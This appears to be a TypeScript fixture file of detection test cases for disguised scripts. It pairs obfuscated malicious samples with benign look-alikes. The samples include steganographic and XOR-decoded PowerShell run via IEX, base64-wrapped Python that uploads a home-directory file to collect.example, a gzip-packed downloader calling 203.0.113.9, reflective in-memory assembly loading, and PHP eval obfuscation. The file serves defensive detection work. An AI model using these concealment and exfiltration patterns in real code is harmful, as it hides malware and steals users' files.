// Code that hides: in pictures, in text, in pieces, in memory.
import { gzipSync } from 'node:zlib'
import type { TextCases } from './case.ts'

const packed = (text: string): string => gzipSync(text).toString('base64')

export const DISGUISES: TextCases = {
  script_takes_code_out_of_picture: {
    hits: {
      'lowest bits run': [
        'powershell',
        '$o += $g.GetPixel($x,$y).B -band 15\nIEX([Text.Encoding]::ASCII.GetString($o))',
      ],
    },
    misses: {
      'a picture measured': ['powershell', '$sum += $g.GetPixel($x,$y).B\nWrite-Output $sum'],
      'code run, no picture': ['powershell', 'iex (Get-Content a.ps1 -Raw)'],
    },
  },
  script_hides_its_errand: {
    hits: {
      'Python out of base64': [
        'python',
        `import base64\nexec(base64.b64decode("${Buffer.from('import requests, os\nrequests.post("https://collect.example/u", files={"f": open(os.path.expanduser("~/a"), "rb")})\n').toString('base64')}"))`,
      ],
    },
    misses: {
      'a table out of base64': [
        'python',
        `import base64\nexec(base64.b64decode("${Buffer.from('TABLE = [1, 2, 3, 4, 5, 6, 7, 8]\nNAMES = ["alpha", "beta", "gamma", "delta"]\nprint(TABLE, NAMES)\n').toString('base64')}"))`,
      ],
      'the same in the open': [
        'python',
        'import requests\nrequests.post("https://collect.example/u", files={"f": open("a", "rb")})',
      ],
    },
  },
  script_unpacks_itself_into_memory: {
    hits: {
      'a comment that is a program': [
        'batch',
        "powershell -c \"$a=[System.IO.File]::ReadAllText('%~f0').Split('::')[1];$d=$e.CreateDecryptor();$b=$d.TransformFinalBlock($a,0,9);[Reflection.Assembly]::Load($b)\"",
      ],
    },
    misses: {
      'an archive behind a batch file': ['batch', 'more +12 "%~f0" > a.cab\nexpand a.cab -F:* out'],
      'a module that loads its library': [
        'powershell',
        '[Reflection.Assembly]::Load([IO.File]::ReadAllBytes("a.dll"))',
      ],
    },
  },
  script_runs_disguised_code: {
    hits: {
      'the decoder in pieces': [
        'php',
        '<?php $d = "base64_"."decode"; $t = $d("aGVsbG8gd29ybGQgaGVsbG8="); @eval($t); ?>',
      ],
    },
    misses: {
      'the decoder by its name': ['php', '<?php $t = base64_decode("aGVsbG8gd29ybGQgaGVsbG8="); echo $t; ?>'],
      'a name in pieces that runs nothing': ['php', '<?php $d = "base64_"."decode"; echo $d("aGVsbG8="); ?>'],
    },
  },
  script_unpacks_its_errand: {
    hits: {
      'packed and run': [
        'powershell',
        `IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('${packed("$d=(New-Object Net.WebClient).DownloadData('http://203.0.113.9/p');$x=$d.Length")}'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
      ],
    },
    misses: {
      'packed, and it stays': [
        'powershell',
        `IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('${packed('function Get-Total { param($a) $a | Measure-Object -Sum }')}'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
      ],
      'the same in the open': ['powershell', "$d=(New-Object Net.WebClient).DownloadData('http://203.0.113.9/p')"],
    },
  },
  script_hides_windows_objects: {
    hits: {
      'a table with a decoder': [
        'javascript',
        'var t=["a1","b2"];var d=function(i){return u(t[i])};var w=new ActiveXObject(d("0x1"));w[d("0x2")](d("0x0"),0);',
      ],
    },
    misses: {
      'a list of names for one object': [
        'javascript',
        'var names=["MSXML2.XMLHTTP.6.0","MSXML2.XMLHTTP"];for(var i=0;i<2;i++){try{var x=new ActiveXObject(names[i]);break}catch(e){}}x["open"]("GET","/a")',
      ],
      'a decoder without such objects': ['javascript', 'var w=make(d("0x1"));w[d("0x2")](d("0x0"),0);'],
    },
  },
  script_runs_shifted_numbers: {
    hits: {
      'each by an exclusive or, as a block': [
        'powershell',
        '$n = 0x4b,0x57,0x50,0x16,0x51,0x43,0x04,0x44,0x4d,0x16,0x4b; & ([scriptblock]::Create(-join ($n | % { [char]($_ -bxor 0x22) })))',
      ],
    },
    misses: {
      'a secret for learners is shown': [
        'powershell',
        '$n = 75,87,80,22,81,67,4,68,77,22,75; Write-Host (-join ($n | % { [char]($_ -bxor 34) }))',
      ],
      'a command beside a colour table': [
        'powershell',
        '$c = 0,17,34,51,68,85,102,119,136,153,170; $c | % { Set-Pixel $_ }; Invoke-Expression $env:STEP',
      ],
    },
  },
}
